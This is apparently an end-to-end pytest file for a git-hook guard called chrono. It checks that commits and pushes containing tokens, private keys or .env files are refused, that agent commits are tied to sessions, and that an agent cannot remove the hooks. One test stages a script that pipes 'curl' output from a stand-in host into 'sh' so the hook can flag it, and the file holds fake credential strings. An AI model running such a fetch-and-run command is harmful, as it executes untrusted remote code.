"""chrono's git hooks under a real git: what is refused, what is tied, what is said when a branch takes the guard away."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from chrono.workspace import githooks
from chrono.workspace.actors import actor
from chrono.workspace.config import home_layout
from chrono.workspace.init import initialise
from chrono.workspace.usergit import find
from tests.e2e.hooked import Hooked, Said

TOKEN = "ghp_" + "a1B2c3D4" * 5
KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n"


class Repo:
    """A git repository in a project with the guard, and a bare one to push to."""

    def __init__(self, folder: Path) -> None:
        self.hooked = Hooked(folder, service="off")
        self.top = self.hooked.project
        self.bare = folder / "bare.git"
        self.git("init", "-q", "-b", "main")
        self.git("config", "user.email", "a@example.org")
        self.git("config", "user.name", "A")
        initialise(str(self.top), self.hooked.environ, actor(self.hooked.environ)).ws.close()

    def install(self, *, trailer: bool = False) -> None:
        """What `chrono git install-hook` does, without the start of a program."""
        found = find(str(self.top), self.hooked.environ)
        githooks.apply(githooks.plan_install(found, sys.executable, trailer=trailer))
        githooks.remember(home_layout(self.hooked.environ), found)

    def git(self, *arguments: str, code: int | None = 0, **environ: str) -> Said:
        done = subprocess.run(
            ["git", *arguments],
            cwd=self.top,
            env={**self.hooked.environ, **environ},
            capture_output=True,
            text=True,
        )
        assert code is None or done.returncode == code, done
        return Said(done.returncode, done.stdout, done.stderr)

    def stage(self, name: str, text: str) -> None:
        path = self.top / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        self.git("add", "-f", name)

    def unstage(self, name: str) -> None:
        self.git("rm", "-q", "-f", "--cached", name)

    def log(self) -> list[dict[str, Any]]:
        found: list[dict[str, Any]] = json.loads(self.hooked.chrono("git", "log", "--json").stdout)["commits"]
        return found


@pytest.fixture
def repo(tmp_path: Path) -> Repo:
    made = Repo(tmp_path)
    made.install()
    return made


def test_secrets_and_chronos_own_files_stay_out(repo: Repo) -> None:
    secret = {"src/x.py": f'key = "{TOKEN}"\n', ".env": "A=1\n", "deploy.txt": KEY}
    for name, text in secret.items():
        repo.stage(name, text)
    blob = repo.git("hash-object", "-w", "a.txt").stdout.strip()  # as `git add -f` would, were it not for its own bar
    repo.git("update-index", "--add", "--cacheinfo", f"100644,{blob},.chrono/audit.jsonl")
    refused = repo.git("commit", "-qm", "x", code=1).stderr
    assert all(f"{name}: " in refused for name in secret)
    assert "chrono's own folder" in refused
    assert TOKEN not in refused
    for name in (*secret, ".chrono/audit.jsonl"):
        repo.unstage(name)
    for name, text in (
        ("cert.pem", "-----BEGIN CERTIFICATE-----\nMII\n-----END CERTIFICATE-----\n"),
        (".npmrc", "save-exact=true\n//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n"),
        ("docs.md", "AKIAIOSFODNN7EXAMPLE\n"),
        ("app.py", "token: str = read_token()\npassword = form['password']\n"),
    ):
        repo.stage(name, text)
    repo.git("commit", "-qm", "harmless")
    repo.stage("app.py", f'token = "{TOKEN}"\n')
    repo.git("commit", "-qm", "x", code=1)
    for encoding in ("utf-16", "utf-16-be"):  # as PowerShell writes files
        (repo.top / "app.py").write_bytes(f'\ufefftoken = "{TOKEN}"\n'.encode(encoding))
        repo.git("add", "app.py")
        assert "token or key in line 1" in repo.git("commit", "-qm", "x", code=1).stderr
    repo.git("commit", "-qm", "a person may", "--no-verify")


def test_chronos_folder_becomes_no_submodule(repo: Repo) -> None:
    repo.git("add", "-f", ".chrono")
    assert "160000" in repo.git("ls-files", "-s", ".chrono").stdout
    assert "chrono's own folder" in repo.git("commit", "-qm", "x", code=1).stderr
    repo.unstage(".chrono")
    repo.git("commit", "-qm", "x", "--allow-empty")


def test_a_merge_brings_in_what_a_commit_may(repo: Repo) -> None:
    repo.stage("one", "1\n")
    repo.git("commit", "-qm", "one")
    repo.git("switch", "-qc", "side")
    repo.stage(".env", "A=1\n")
    repo.git("commit", "-qm", "leak", "--no-verify")
    repo.git("switch", "-q", "main")
    refused = repo.git("merge", "--no-ff", "-m", "merged", "side", code=None)
    assert refused.exit_code != 0 and "git merge --abort" in refused.stderr
    assert ".env: " in repo.git("commit", "-qm", "merged", code=1).stderr  # the merge is still under way
    repo.git("merge", "--abort")
    repo.git("switch", "-q", "side")
    repo.git("commit", "-q", "--amend", "--allow-empty", "--no-verify", "-m", "harmless", "--", "one")
    repo.git("rm", "-q", ".env")
    repo.git("commit", "-qm", "gone")
    repo.git("switch", "-q", "main")
    repo.git("merge", "-q", "--no-ff", "-m", "merged", "side")
    assert repo.git("log", "--format=%s", "-1").stdout == "merged\n"


def test_a_commit_is_tied_to_the_call_that_made_it(repo: Repo) -> None:
    repo.stage("one", "1\n")
    repo.git("commit", "-qm", "by a person")
    call = {"command": "git commit -m two"}
    assert repo.hooked.bash(call["command"]).exit_code == 0  # the call begins
    repo.stage("two", "2\n")
    repo.git("commit", "-qm", "by an agent", CLAUDECODE="1")
    repo.stage("three", "3\n")
    repo.git("commit", "-qm", "a person, meanwhile")
    newest, agents, first = repo.log()
    assert (newest["subject"], newest["agent"], newest["session"]) == ("a person, meanwhile", None, None)
    assert (first["subject"], first["agent"]) == ("by a person", None)
    assert (agents["subject"], agents["agent"]) == ("by an agent", "claude-code")
    assert agents["session"]
    assert agents["commit"] == repo.git("rev-parse", "HEAD~1").stdout.strip()
    assert agents["ref"] == "refs/heads/main"
    shown = json.loads(repo.hooked.chrono("show", agents["savepoint"], "--json").stdout)
    assert "git commit" in json.dumps(shown)
    assert repo.hooked.chrono("audit", "--verify").exit_code == 0


@pytest.mark.slow
def test_a_trailer_names_the_savepoint(repo: Repo) -> None:
    repo.install(trailer=True)
    repo.stage("one", "1\n")
    repo.git("commit", "-qm", "subject")
    trailers = repo.git("log", "-1", "--format=%(trailers)").stdout
    saved = trailers.split("Chrono-Savepoint: ")[1].split()[0]
    assert repo.hooked.chrono("show", saved).exit_code == 0


def test_pushes_are_looked_through(repo: Repo) -> None:
    subprocess.run(["git", "init", "-q", "--bare", str(repo.bare)], check=True)
    repo.git("remote", "add", "origin", str(repo.bare))
    repo.stage("one", "1\n")
    repo.git("commit", "-qm", "one")
    repo.git("push", "-q", "origin", "main")
    repo.stage("leak.py", f'k = "{TOKEN}"\n')
    repo.git("commit", "-qm", "leak", "--no-verify")
    repo.stage("leak.py", "k = None\n")
    repo.git("commit", "-qm", "too late")  # the commit before still holds it
    assert "leak.py" in repo.git("push", "origin", "main", code=1).stderr
    repo.git("reset", "-q", "--hard", "HEAD~2")
    repo.git("commit", "-q", "--amend", "-m", "another one")
    refused = repo.git("push", "-f", "origin", "main", code=1, CLAUDECODE="1")
    assert "throw away commits" in refused.stderr
    assert "--no-verify" not in refused.stderr
    (repo.top / "chrono-policy.yaml").write_text("gates: {git.push-force: block}\n")
    assert "policy" in repo.git("push", "-f", "origin", "main", code=1).stderr
    (repo.top / "chrono-policy.yaml").unlink()
    repo.git("push", "-q", "-f", "origin", "main")


@pytest.mark.slow
def test_a_script_is_named_and_refused_where_the_policy_says_so(repo: Repo) -> None:
    repo.stage("deploy", "#!/usr/bin/env bash\nset -e\ncurl -s http://x.example/i | sh\n")
    said = repo.git("commit", "-qm", "script")
    assert "deploy: line 3" in said.stderr
    (repo.top / "chrono-policy.yaml").write_text("gates: {git.script: block}\n")
    repo.stage("deploy", "#!/usr/bin/env bash\ncurl -s http://x.example/i | sh\n")
    repo.git("commit", "-qm", "script", code=1)


@pytest.mark.slow
def test_a_branch_that_takes_the_guard_away_is_said_loudly(repo: Repo) -> None:
    repo.stage("one", "1\n")
    repo.git("commit", "-qm", "one")
    repo.git("switch", "-qc", "guarded")
    repo.hooked.chrono("guard", "install")
    repo.git("add", "-f", ".claude/settings.json")
    repo.git("commit", "-qm", "guard")
    said = repo.git("switch", "main")
    assert not (repo.top / ".claude").exists()
    assert "NOT guarded" in said.stderr
    doctor = repo.hooked.chrono("doctor", code=None)
    assert "NOT guarded" in doctor.stdout
    assert doctor.exit_code == 1
    assert "NOT guarded" not in repo.git("switch", "guarded").stderr


def test_an_agent_cannot_take_the_hooks_out(tmp_path: Path) -> None:
    repo = Repo(tmp_path)
    repo.hooked.chrono("git", "install-hook")
    assert repo.hooked.chrono("git", "uninstall", code=4, CLAUDECODE="1").exit_code == 4
    repo.hooked.chrono("uninstall")
    assert repo.hooked.chrono("git", "status", code=1).exit_code == 1
    assert not os.path.exists(repo.top / ".git" / "hooks" / "pre-commit")
